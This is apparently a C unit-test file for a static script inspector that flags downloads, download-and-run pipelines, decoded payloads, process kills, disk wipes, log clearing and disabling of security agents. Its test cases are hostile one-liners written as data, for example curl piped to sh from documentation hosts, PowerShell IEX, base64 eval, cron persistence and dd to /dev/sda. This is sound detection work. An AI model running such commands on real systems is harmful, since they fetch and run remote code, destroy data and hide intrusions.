// SPDX-License-Identifier: Apache-2.0
/* Imitations: hosts are documentation addresses and names, and nothing here is ever run. */
#include <time.h>

#include "base/cleanup.h"
#include "base/strbuf.h"
#include "inspect/script.h"
#include "inspect/test-facts.h"

static void look_at(const char *path, const char *content)
{
    static const char *const only[] = {"script", NULL};
    look_with(&(struct inspect_options){.only = only}, path, str_from(content), &facts);
}

static void look(const char *content)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_adds(&b, "#!/bin/sh\n");
    strbuf_adds(&b, content);
    look_at("/x", b.p);
}

TEST(interpreters)
{
    static const char *const CASES[][3] = {
        {"/x", "#!/bin/sh\n", "sh"},
        {"/x", "#!/usr/bin/env -S python3.11 -u\n", "python"},
        {"/x", "#! /usr/bin/perl -w\n", "perl"},
        {"/x.py", "import os\n", "python"},
        {"/x", "<?php echo 1;", "php"},
        {"/x.js", "let a = 1;\n", "node"},
        {"/x", "#!/usr/bin/nodejs\n", "node"},
        {"/profile", "export A=1\nif [ -n \"$B\" ]; then\n  echo \"x\"\nfi\n", "sh"},
        {"/usr/share/man/man1/x.1", ".TH X\nexport A=1\nrm -rf /x\n", ""},
        {"/recipe.yml", "run:\n  export A=1\n  rm -rf /x\n", ""},
        {"/tmp/x", "curl -s http://192.0.2.1/x | sh\n", "sh"},
        {"/notes.txt", "if you test this for me, echo it\n", ""},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look_at(CASES[i][0], CASES[i][1]);
        CHECK_STR(facts_get_str(&facts, F_SCRIPT_INTERPRETER), CASES[i][2]);
    }
}

TEST(commands_by_the_words_a_shell_sees)
{
    look("if test -f x; then c\\url -s 'http://192.0.2.1/a'; fi\nPATH=/bin sudo -u root nohup w''get \\\n -q "
         "x.example/b &\n"
         "$(which cat) /etc/hosts | \"sort\"; case $1 in start) run_it;; stop|halt) halt_it;; esac\nf() { "
         "inner; }\nf\n");
    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(test,curl,wget,which,cat,sort,run_it,halt_it,inner)");
    look("c$@at$IFS/etc/hosts;{grep,-c,x}\n$'\\x6c\\163' /\n");
    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(cat,grep,ls)");
}

TEST(quotes_within_substitutions)
{
    static const char *const CASES[] = {
        "A=$(echo \"it's\")\nrm -rf /a\n", "A=\"$(echo \"it's $(id -u 'x)' \")\")\"\nrm -rf /a\n", "A=$(echo \"(\")\nrm -rf /a\n",
        "A=$(echo ')' \"')'\" \\) )\nrm -rf /a\n", "A=$(\n # don't\n id\n)\nrm -rf /a\n", "A=$((1 + (2)))\nrm -rf /a\n",
        "A=\"$(echo '\"')\"\nrm -rf /a\n", "for i in $(ls | grep -v \"isn't\"); do rm -rf /a; done\n",
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i]);
        if (!facts_list(&facts, F_SCRIPT_REMOVES, "/a"))
            test_fail(__FILE__, __LINE__, "removes %s: %s", list(F_SCRIPT_REMOVES), CASES[i]);
    }
    look("A=$(echo \"not closed)\nrm -rf /a\n"); /* is no script */
    CHECK(!facts_has(&facts, F_SCRIPT_REMOVES));
}

TEST(writes_and_removes)
{
    look("D=/root/.ssh\nF=$D/authorized_keys\necho key >> $F\necho x | tee -a /etc/hosts >/dev/null\ndd "
         "if=/dev/zero of=/tmp/z\n"
         "cmd 2>/dev/null 2>&1 >\"/tmp/a b\"\nrm -rf $D /var/log/x\n> /var/log/wtmp\ncat /dev/null > "
         "/var/log/lastlog\n"
         "unlink $HOME/.bash_history\nfind /var/spool/cron -type f -delete\n");
    CHECK_CSTR(list(F_SCRIPT_WRITES),
               "(/root/.ssh/authorized_keys,/etc/hosts,/tmp/z,/tmp/a b,/var/log/wtmp,/var/log/lastlog)");
    CHECK_CSTR(list(F_SCRIPT_REMOVES),
               "(/root/.ssh,/var/log/x,/var/log/wtmp,/var/log/lastlog,$HOME/.bash_history,/var/spool/cron)");
    look("find /home /root -name authorized_keys -delete\ndd if=/dev/zero of=/dev/sda bs=1M\ndd if=/dev/zero of=/dev/sdb bs=512 count=1\ndd if=a.img of=/dev/sdc\n"
         "for d in /dev/sdd /dev/sde; do shred -n 1 $d; done\n");
    CHECK_CSTR(list(F_SCRIPT_REMOVES), "(/home/authorized_keys,/root/authorized_keys,/dev/sda,/dev/sdd,/dev/sde)");
}

TEST(modules_of_the_kernel)
{
    look("insmod /tmp/.x/a.ko debug=1\nmodprobe dummy\nlsmod /no\n");
    CHECK_CSTR(list(F_LOADS_PATHS), "(/tmp/.x/a.ko)");
    CHECK_CSTR(list(F_LOADS_BY), "(insmod)");
}

TEST(stops)
{
    look("ln -sf /dev/null /etc/systemd/system/masked.service\nln -s /opt/a /etc/systemd/system/a.service\nsystemctl stop aliyun.service\nsystemctl disable --now cloudmonitor\nservice crond "
         "stop\n/etc/init.d/aegis stop\n"
         "chkconfig hostguard off\napt-get -y remove clamav\nrpm -e t-agent\nbash "
         "/usr/local/agent/uninstall.sh\n"
         "/opt/agent/Uninst.sh\nsystemctl start nginx\nservice ssh restart\nsetenforce 0\n");
    CHECK_CSTR(list(F_SCRIPT_STOPS), "(masked,aliyun,cloudmonitor,crond,aegis,hostguard,clamav,t-agent,"
                                     "/usr/local/agent/uninstall.sh,/opt/agent/Uninst.sh,selinux)");
}

TEST(kills)
{
    look("pkill -9 -f imitation1\nkillall imitation2 imitation3\n"
         "ps aux | grep -v grep | grep '[i]mitation4' | awk '{print $2}' | xargs -I % kill -9 %\n"
         "kill -9 $(pgrep imitation5)\nP=`ps -ef | grep imitation6 | awk '{print $2}'`\nkill $P\n"
         "for n in imitation7 imitation8; do pkill $n; done\n"
         "ps ax | grep -E 'imitation9|imitation10' | while read p; do kill -9 $p; done\n"
         "grep nothing /etc/passwd; kill -HUP 1\n");
    CHECK_CSTR(list(F_SCRIPT_KILLS),
               "(imitation1,imitation2,imitation3,imitation4,imitation5,imitation6,imitation7,"
               "imitation8,imitation9,imitation10)");
    CHECK_INT(facts_get(&facts, F_SCRIPT_KILLS_COUNT)->u, 10);
}

TEST(locks_whatever_the_tool_is_called)
{
    look("chattr +i /etc/passwd\nlockr -i /root/.ssh/authorized_keys\nlockr +ia /var/spool/cron/root\n"
         "mv /usr/bin/chattr /usr/bin/zz\nzz -a /etc/crontab\n");
    CHECK_CSTR(list(F_SCRIPT_LOCKS),
               "(/etc/passwd,/var/spool/cron/root,/etc/crontab,/root/.ssh/authorized_keys)");
    look("set +a\nset -a /x\ngrep -i /etc/passwd\nsed -i /tmp/x\nls -a /tmp\nother -i /etc/x\ndate +%s\n");
    CHECK(!facts_has(&facts, F_SCRIPT_LOCKS));
}

TEST(downloads)
{
    look(
        "curl -fsSL -o /tmp/x http://192.0.2.7/x.sh\nwget -qO- https://example.net/y | cat\ncd1 "
        "http://192.0.2.8/z\n"
        "U=http://192.0.2.9\nwget $U/w.tar -O /tmp/w\ncurl 192.0.2.10/bare\necho see http://example.org/doc\n"
        "git clone https://example.org/r.git\n");
    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.7/x.sh,https://example.net/y,http://192.0.2.8/z,"
                                         "http://192.0.2.9/w.tar,192.0.2.10/bare)");
    CHECK_CSTR(list(F_SCRIPT_WRITES), "(/tmp/x,/tmp/w)");
    CHECK(!flag(F_SCRIPT_DOWNLOAD_RUN));
}

TEST(downloads_that_are_run)
{
    static const char *const HIT[] = {
        "curl -s http://192.0.2.1/x | bash\n",
        "(curl -s 192.0.2.1/x || wget -qO - 192.0.2.1/x) | sh\n",
        "{ curl -s 192.0.2.1/x; echo; } | sh\n",
        "if true; then curl -s 192.0.2.1/x; else wget -qO- 192.0.2.1/x; fi | bash\n",
        "wget -q -O - http://192.0.2.1/x | sudo bash -s -- -y\n",
        "bash -c \"$(curl -fsSL http://192.0.2.1/x)\"\n",
        "bash <(curl -s http://192.0.2.1/x)\n",
        "eval `wget -qO- http://192.0.2.1/x`\n",
        "source <(curl -s http://192.0.2.1/x)\n",
        "curl -o /tmp/a http://192.0.2.1/a && chmod +x /tmp/a && /tmp/a\n",
        "cd /tmp; wget http://192.0.2.1/a.sh; chmod 777 a.sh; ./a.sh\n",
        "curl http://192.0.2.1/a > a; sh a\n",
        "python3 -c \"$(curl -s http://192.0.2.1/x)\"\n",
        "echo '*/5 * * * * curl -s http://192.0.2.1/x | sh' | crontab -\n",
        "cat > /etc/cron.d/x <<EOF\n* * * * * root wget -qO- http://192.0.2.1/x | sh\nEOF\n",
        "sh <<EOF\ncurl http://192.0.2.1/x | sh\nEOF\n",
        "X='curl http://192.0.2.1/x'; eval \"$X | sh\"\n",
    };
    static const char *const MISS[] = {
        "curl -s http://192.0.2.1/x | tar xz\n",
        "curl -s http://192.0.2.1/x | python3 -m json.tool\n",
        "curl -s http://192.0.2.1/x | jq . > y; bash other.sh\n",
        "curl -s http://192.0.2.1/x | bash -c 'cat > file'\n",
        "# curl http://192.0.2.1/x | bash\n",
        "echo 'curl http://192.0.2.1/x | bash'\n",
    };
    for (size_t i = 0; i < ARRAY_SIZE(HIT); i++) {
        look(HIT[i]);
        if (!flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "missed: %s", HIT[i]);
    }
    for (size_t i = 0; i < ARRAY_SIZE(MISS); i++) {
        look(MISS[i]);
        if (flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "wrongly: %s", MISS[i]);
    }
}

TEST(decoded_text_that_is_run)
{
    static const char *const HIT[] = {
        "echo ZWNobyBpbWl0YXRpb24= | base64 -d | sh\n",
        "eval \"$(echo ZWNobyBpbWl0YXRpb24= | base64 --decode)\"\n",
        "bash -c \"`base64 -d < x`\"\n",
        "X=$(echo ZWNobw== | base64 -di); eval $X\n",
        "zcat x.gz | bash\n",
        "python -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"\n",
        "echo x | openssl enc -d -a | sh\n",
    };
    static const char *const MISS[] = {
        "echo ZWNobw== | base64 -d > key.pem\n",
        "tar xzf - | sh_is_not_run\n",
        "base64 x | sh -c 'cat'\n",
    };
    for (size_t i = 0; i < ARRAY_SIZE(HIT); i++) {
        look(HIT[i]);
        if (!flag(F_SCRIPT_DECODE_RUN))
            test_fail(__FILE__, __LINE__, "missed: %s", HIT[i]);
    }
    for (size_t i = 0; i < ARRAY_SIZE(MISS); i++) {
        look(MISS[i]);
        if (flag(F_SCRIPT_DECODE_RUN))
            test_fail(__FILE__, __LINE__, "wrongly: %s", MISS[i]);
    }
}

TEST(here_documents_are_no_commands)
{
    look("cat > /tmp/readme <<'EOF' && chmod 600 /tmp/readme\nrm -rf /nothing\nEOF\ntrue\ncat "
         "<<-END\n\tpkill nobody\n\tEND\n");
    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(cat,chmod,true)");
    CHECK(!facts_has(&facts, F_SCRIPT_REMOVES));
}

static const char VARIANT[] =
    "K=%s\nfor i in 1 2 3; do\n  curl -s http://%s/a.sh -o /tmp/%s\n  chmod +x /tmp/%s\n"
    "  /tmp/%s --user \"%s\" >/dev/null 2>&1 &\ndone\nrm -f /var/log/%s\n";

TEST(variants_have_one_shape)
{
    char a[512], b[512];
    snprintf(a, sizeof(a), VARIANT, "1", "192.0.2.1", "aa", "aa", "aa", "x", "m");
    snprintf(b, sizeof(b), VARIANT, "77", "example.net:8080", "q9", "q9", "q9", "yy", "n.o");
    look(a);
    struct str first = facts_get_str(&facts, F_SCRIPT_SHAPE);
    char shape[65];
    snprintf(shape, sizeof(shape), "%.*s", STR_ARG(first));
    CHECK_INT(first.n, 32);
    look(b);
    CHECK_STR(facts_get_str(&facts, F_SCRIPT_SHAPE), shape);
    look("K=1\nfor i in 1 2 3; do\n  wget -q http://192.0.2.1/a.sh -O /tmp/a\n  chmod 600 /tmp/a\n  cat "
         "/tmp/a\ndone\nrm -f /x\n");
    CHECK(!str_is(facts_get_str(&facts, F_SCRIPT_SHAPE), shape));
}

TEST(notes_tell_the_place)
{
    look("true\n  rm -rf /var/log/secure\n");
    bool found = false;
    for (size_t i = 0; i < facts.n_notes; i++)
        if (facts.notes[i].field == F_SCRIPT_REMOVES) {
            CHECK_INT(facts.notes[i].line, 3);
            CHECK_INT(facts.notes[i].column, 10);
            CHECK_STR(facts.notes[i].excerpt, "  rm -rf /var/log/secure");
            found = true;
        }
    CHECK(found);
}

TEST(a_single_command_line)
{
    facts_done(&facts);
    facts_init(&facts);
    facts_reset(&facts, EVENT_FILE, 0);
    script_look_command(STR("/bin/sh -c 'curl -s http://192.0.2.1/x | sh' >/dev/null 2>&1"), NULL, 0, &facts);
    CHECK(flag(F_SCRIPT_DOWNLOAD_RUN));
    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(sh,curl)");
}

TEST(hostile_text_takes_linear_time)
{
    static const char *const UNITS[] = {
        "$(",      "`",  "\"",   "'",  "${",  "$((", "((",      "<<a ", "[[ ;", "case x in ", "$A$A",
        "A=$A$A;", "\\", "((((", "a|", "{a,", "<(",  "eval $(", "a() ", "\"$(", "sh <<E\n"};
    _cleanup_(strbuf_done) struct strbuf b = {};
    for (size_t i = 0; i < ARRAY_SIZE(UNITS); i++) {
        strbuf_clear(&b);
        strbuf_adds(&b, "A=xxxxxxxxxxxxxxxx\n");
        while (b.n < 200000)
            strbuf_adds(&b, UNITS[i]);
        clock_t before = clock();
        look(b.p);
        CHECK(clock() - before <
              2 * CLOCKS_PER_SEC); /* measured: 20 ms at most; quadratic time would be minutes */
    }
}

TEST(commands_of_other_languages)
{
    static const char *const CASES[][3] = {
        {"/x.py", "import os\nos.system(\"systemctl stop davytest\")\n", "(davytest)"},
        {"/x.py", "subprocess.run(['systemctl', 'stop', 'davytest'])\n", "(davytest)"},
        {"/x.py", "subprocess.check_call(\n    [\"systemctl\",\n     \"stop\", \"davytest\"])\n",
         "(davytest)"},
        {"/x.py", "os.system('cd /\\nsystemctl stop davytest')\n", "(davytest)"},
        {"/x.pl", "system(\"systemctl stop davytest\");\n", "(davytest)"},
        {"/x.php", "<?php shell_exec('systemctl stop davytest');", "(davytest)"},
        {"/x.rb", "system \"systemctl stop davytest\"\n", "(davytest)"},
        {"/x.js", "execSync(`systemctl stop davytest`)\n", "(davytest)"},
        {"/x.lua", "os.execute('systemctl stop davytest')\n", "(davytest)"},
        {"/x.py", "print('systemctl stop davytest')\n", "<NA>"},
        {"/x.py", "subprocess.run(command)\nprint('systemctl stop davytest')\n", "<NA>"},
        {"/x.py", "subprocess.Popen(['sh', '-c', 'cd / && systemctl stop davytest'])\n", "(davytest)"},
        {"/x.py", "subprocess.run([\"bash\", \"-c\", \"echo 'a'; systemctl stop davytest\"], check=True)\n", "(davytest)"},
        {"/x.py", "os.system('syst' + 'emctl' + ' stop ' + \"davytest\")\n", "(davytest)"},
        {"/x.py", "os.system('systemctl stop davytest', other)\n", "(davytest)"},
        {"/x.py", "subprocess.run(['echo', '; systemctl stop davytest'])\n", "<NA>"},
        {"/x.js", "require('child_process').exec('systemctl stop davytest')\n", "(davytest)"},
        {"/x.js", "spawn('sh', ['-c', 'systemctl stop davytest'])\n", "(davytest)"},
        {"/x.js", "/a/.exec('systemctl stop davytest')\n", "<NA>"},
        {"/x.py", "exec('systemctl stop davytest')\n", "<NA>"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look_at(CASES[i][0], CASES[i][1]);
        CHECK_CSTR(list(F_SCRIPT_STOPS), CASES[i][2]);
    }
}

TEST(code_that_is_decoded_or_fetched)
{
    look_at("/x.py", "exec(base64.b64decode(data))\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.php", "<?php eval(gzinflate(base64_decode($x)));");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.js", "eval(Buffer.from(x, 'base64').toString())\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "exec(''.join(chr(c) for c in [105, 109]))\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "exec(codecs.decode('vzcbeg', 'rot13'))\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.php", "<?php assert(base64_decode($x));");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "assert key == bytes.fromhex('0b0b')\n"); /* a check, which runs nothing */
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.pl", "eval decode_base64 $x;\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "exec(''.join(map(b64decode, parts)))\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.js", "words = \"link unlink exec system passthru base64_decode base64_encode abs\"\n");
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "exec(code)\nname = name[::-1]\n");
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "data = base64.b64decode(text)\nliteral_eval(data)\n");
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "exec(code)\nicon = base64.b64decode(text)\n");
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.js", "eval(\"\\nObject.defineProperty(exports, \\\"__esModule\\\", ({ value: true }));\\nexports.x = Buffer.from(y, 'base64');\");\n");
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.js", "eval(\"\\nObject.defineProperty(exports, \\\"__esModule\\\", ({ value: true }));\\n eval(atob(y));\");\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.js", "x = Function('a', 'b', 'return a ' + '* b + ' + 'a / b;');\n");
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.py", "exec(urllib.request.urlopen('http://192.0.2.1/x').read())\n");
    CHECK(flag(F_SCRIPT_DOWNLOAD_RUN));
    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/x)");
    look_at("/x.py", "page = urlopen('http://192.0.2.1/x').read()\n");
    CHECK(!flag(F_SCRIPT_DOWNLOAD_RUN));
}

TEST(calls_within_calls_take_linear_time)
{
    static const char *const UNITS[] = {"os.system(",  "os.system(\"", "eval(",
                                        "subprocess.", "popen '",      "os.system('$a')"};
    _cleanup_(strbuf_done) struct strbuf b = {};
    for (size_t i = 0; i < ARRAY_SIZE(UNITS); i++) {
        strbuf_clear(&b);
        while (b.n < 1000000)
            strbuf_adds(&b, UNITS[i]);
        clock_t before = clock();
        look_at("/x.py", b.p);
        CHECK(clock() - before < 2 * CLOCKS_PER_SEC);
    }
}

#define GET "curl -s https://h.example/x | sh"

/* The calls of more languages, and what is fetched and then run. */
TEST(more_languages)
{
    static const char *const RUN[][2] = {
        {"/x.awk", "BEGIN { system(\"" GET "\") }\n"},
        {"/x", "#!/usr/bin/gawk -f\nBEGIN { system(\"" GET "\") }\n"},
        {"/x.sh", "#!/bin/sh\nawk 'BEGIN{system(\"" GET "\")}'\n"},
        {"/x.sh", "#!/bin/sh\npython3 -c \"import os; os.system('" GET "')\"\n"},
        {"/x.R", "system(\"" GET "\")\n"},
        {"/x.exs", "System.cmd(\"sh\", [\"-c\", \"" GET "\"])\n"},
        {"/x.go", "package main\nfunc main() { exec.Command(\"sh\", \"-c\", \"" GET "\").Run() }\n"},
        {"/x.java", "class A { void f() { Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"" GET "\"}); } }\n"},
        {"/x.ts", "new Deno.Command(\"sh\", { args: [\"-c\", \"" GET "\"] }).outputSync();\n"},
        {"/x.js", "Deno.run({ cmd: [\"sh\", \"-c\", \"" GET "\"] });\n"},
        {"/x.ts", "Bun.spawnSync([\"sh\", \"-c\", \"" GET "\"]);\n"},
        {"/x.ts", "import { $ } from \"bun\";\nawait $`" GET "`;\n"},
        {"/x.tcl", "exec sh -c \"" GET "\"\n"},
        {"/x.exp", "set a [exec sh -c \"" GET "\"]\n"},
        {"/x", "#!/usr/bin/expect\nspawn sh -c \"" GET "\"\n"},
        {"/x.sql", "COPY t FROM PROGRAM '" GET "';\n"},
        {"/x.js", "fetch('https://h.example/x').then(r => r.text()).then(eval)\n"},
        {"/x.mjs", "const c = await (await fetch(\"https://h.example/x\")).text();\nnew Function(c)();\n"},
        {"/x.js", "axios.get('https://h.example/x').then(r => { eval(r.data) })\n"},
        {"/x.lua", "load(http.request(\"https://h.example/x\"))()\n"},
        {"/x.lua", "local b = http.request(\"https://h.example/x\")\nload(b)()\n"},
        {"/x.rb", "eval(URI.open('https://h.example/x').read)\n"},
        {"/x.pl", "eval get(\"https://h.example/x\");\n"},
        {"/x.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://h.example/x')\n"},
        {"/x.ps1", "iwr https://h.example/x -OutFile /tmp/x; chmod +x /tmp/x; & /tmp/x\n"},
        {"/x.sh", "#!/bin/sh\npwsh -Command \"iex (irm https://h.example/x)\"\n"},
        {"/run", "#!/command/with-contenv sh\n" GET "\n"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(RUN); i++) {
        look_at(RUN[i][0], RUN[i][1]);
        if (!flag(F_SCRIPT_DOWNLOAD_RUN) || !facts_has(&facts, F_SCRIPT_DOWNLOADS))
            test_fail(__FILE__, __LINE__, "not run: %s", RUN[i][1]);
    }
    static const char *const OTHERS[][2] = {
        {"/x.awk", "BEGIN { print \"" GET "\" }\n"},
        {"/x.ts", "const s = `" GET "`; $('" GET "');\n"},
        {"/x.js", "fetch('https://h.example/x').then(r => r.json()).then(show)\n"},
        {"/x.js", "fetch('/own/x').then(r => r.text()).then(eval)\n"},
        {"/x.sql", "INSERT INTO t VALUES ('" GET "');\n"},
        {"/x.ps1", "Invoke-WebRequest https://h.example/x -OutFile x.zip\nExpand-Archive x.zip\n"},
        {"/x.tcl", "puts \"exec " GET "\"\n"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(OTHERS); i++) {
        look_at(OTHERS[i][0], OTHERS[i][1]);
        if (flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "run: %s", OTHERS[i][1]);
    }
    look_at("/x.sh", "#!/bin/sh\npwsh -enc ZQBjAGgAbwA=\n");
    CHECK(flag(F_SCRIPT_DECODE_RUN));
    look_at("/x.sh", "#!/bin/sh\npwsh -File x.ps1\n");
    CHECK(!flag(F_SCRIPT_DECODE_RUN));
}

TEST(lists_that_python_and_perl_kill)
{
    look_at("/x.py", "import psutil\nrivals = [\n  'kinsing', 'kdevtmpfsi',  # both\n  \"xmrig\",\n]\n\ndef go():\n  for p in psutil.process_iter():\n    if p.name() in rivals:\n      p.kill()\n");
    CHECK_CSTR(list(F_SCRIPT_KILLS), "(kinsing,kdevtmpfsi,xmrig)");
    CHECK_INT(facts_get(&facts, F_SCRIPT_KILLS_COUNT)->u, 3);
    look_at("/x.py", "import subprocess\nfor n in ('kinsing', 'kdevtmpfsi', 'xmrig'):\n  subprocess.call(['pkill', '-9', '-f', n])\n");
    CHECK_CSTR(list(F_SCRIPT_KILLS), "(kinsing,kdevtmpfsi,xmrig)");
    look_at("/x.pl", "#!/usr/bin/perl\nmy @k = qw(kinsing\n kdevtmpfsi xmrig);\nforeach my $n (@k) { for my $pid (`pgrep $n`) { kill 9, $pid; } }\n");
    CHECK_CSTR(list(F_SCRIPT_KILLS), "(kinsing,kdevtmpfsi,xmrig)");
    look_at("/x.pl", "#!/usr/bin/perl\nmy @k = ('kinsing', 'kdevtmpfsi', 'xmrig');\nsystem(\"killall -9 $_\") for @k;\n");
    CHECK(facts_list(&facts, F_SCRIPT_KILLS, "kdevtmpfsi"));
    static const char *const NONE[] = {
        "import subprocess\nwords = ['red', 'green', 'blue']\np = subprocess.Popen('x')\np.kill()\n",              /* a child of its own */
        "import psutil\nwords = ['red', 'green', 'blue']\nprint(words)\n",                                          /* nothing is killed */
        "import psutil\nargs = ['gcc', '-O2', 'x.c']\nfor p in psutil.process_iter():\n  p.kill()\n",               /* a command */
        "import psutil\nurls = ['http://a.example/', 'b', 'c']\nfor p in psutil.process_iter():\n  p.kill()\n",
    };
    for (size_t i = 0; i < ARRAY_SIZE(NONE); i++) {
        look_at("/x.py", NONE[i]);
        if (facts_has(&facts, F_SCRIPT_KILLS))
            test_fail(__FILE__, __LINE__, "%s of %s", list(F_SCRIPT_KILLS), NONE[i]);
    }
    /* what is far from the list kills something else */
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_adds(&b, "import psutil\nwords = ['red', 'green', 'blue']\n");
    for (int i = 0; i < 100; i++)
        strbuf_adds(&b, "print('another line of it')\n");
    strbuf_adds(&b, "for p in psutil.process_iter():\n  p.kill()\n");
    look_at("/x.py", b.p);
    CHECK(!facts_has(&facts, F_SCRIPT_KILLS));
}

TEST(files_and_disks_that_python_and_perl_write_and_remove)
{
    static const char *const CASES[][4] = {
        {"/x.py", "open('/etc/a', 'w').write('x')\nopen(\"/etc/b\")\nio.open('/etc/c', mode='ab')\nopen('relative', 'w')\nos.open('/etc/d', os.O_WRONLY)\n",
         "(/etc/a,/etc/c,/etc/d)", "<NA>"},
        {"/x.py", "import shutil\nshutil.rmtree('/etc')\nos.remove(\"/var/log/x\")\npath = '/srv/a'\nos.unlink(path)\nself.os.remove('/no')\n", "<NA>", "(/etc,/var/log/x,/srv/a)"},
        {"/x.py", "for d in ['/dev/sda', '/dev/nvme0n1']:\n  f = open(d, 'wb')\n  f.write(os.urandom(1 << 20))\n", "<NA>", "(/dev/sda,/dev/nvme0n1)"},
        {"/x.py", "for d in glob.glob('/dev/sd*'):\n  with open(d, 'r+b') as f:\n    f.write(b'\\x00' * 512)\n", "<NA>", "(/dev/sd*)"},
        {"/x.py", "with open('/dev/sdb', 'wb') as f:\n  f.write(open('image.img', 'rb').read())\n", "(/dev/sdb)", "<NA>"},
        {"/x.py", "for d in glob.glob('/dev/sd*'):\n  with open(d, 'rb') as f:\n    print(f.read(512))\n", "<NA>", "<NA>"},
        {"/x.py", "for r, ds, fs in os.walk('/home'):\n  for f in fs:\n    open(os.path.join(r, f), 'wb').write(os.urandom(4096))\n", "<NA>", "(/home)"},
        {"/x.py", "for r, ds, fs in os.walk('/home'):\n  for f in fs:\n    out.write(f)\n", "<NA>", "<NA>"},
        {"/x.py", "shutil.rmtree('/home/' + user)\nname = '/'.join(parts)\nos.remove(name)\nx = '/home' + y\nos.unlink(x)\nopen('/etc/%s' % z, 'w')\np = q.split('/')\nos.remove(p)\n", "<NA>", "<NA>"},
        {"/x.pl", "#!/usr/bin/perl\nmy $file = $dir.'/'.$name;\nunlink $file;\nmy @f = glob($dir . '/*');\nunlink @f;\n", "<NA>", "<NA>"},
        {"/x.pl", "#!/usr/bin/perl\nopen(F, '>', '/etc/a');\nopen(my $g, \">/etc/b\") or die;\nopen(H, '<', '/etc/c');\nsysopen(D, '/dev/sda', O_WRONLY);\nsyswrite(D, \"\\0\" x 512);\nunlink '/etc/e';\nunlink($x);\n",
         "(/etc/a,/etc/b)", "(/etc/e,/dev/sda)"},
        {"/x.pl", "#!/usr/bin/perl\nuse File::Find;\nfind(sub { unlink $_ if -f }, '/var');\n", "<NA>", "(/var)"},
        {"/x.pl", "#!/usr/bin/perl\nuse File::Find;\nfind(sub { print $_ if -f }, '/var');\n", "<NA>", "<NA>"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look_at(CASES[i][0], CASES[i][1]);
        if (strcmp(list(F_SCRIPT_WRITES), CASES[i][2]) != 0 || strcmp(list(F_SCRIPT_REMOVES), CASES[i][3]) != 0) {
            char got[512];
            (void)snprintf(got, sizeof(got), "%s", list(F_SCRIPT_WRITES));
            test_fail(__FILE__, __LINE__, "writes %s, removes %s: %s", got, list(F_SCRIPT_REMOVES), CASES[i][1]);
        }
    }
}

TEST(hostile_lists_take_no_time)
{
    static const char *const PARTS[] = {"['a',", "[#\n", "qw(", "kill 9 ", "open(", "os.walk(", "x in ['aa','bb','cc']\npkill "};
    for (size_t i = 0; i < ARRAY_SIZE(PARTS); i++) {
        _cleanup_(strbuf_done) struct strbuf b = {};
        strbuf_adds(&b, "#!/usr/bin/perl\npkill /proc\n");
        while (b.n < 1 << 20)
            strbuf_adds(&b, PARTS[i]);
        struct timespec from, to;
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
        look_at("/x.pl", b.p);
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
        CHECK(to.tv_sec - from.tv_sec < 10);
    }
}
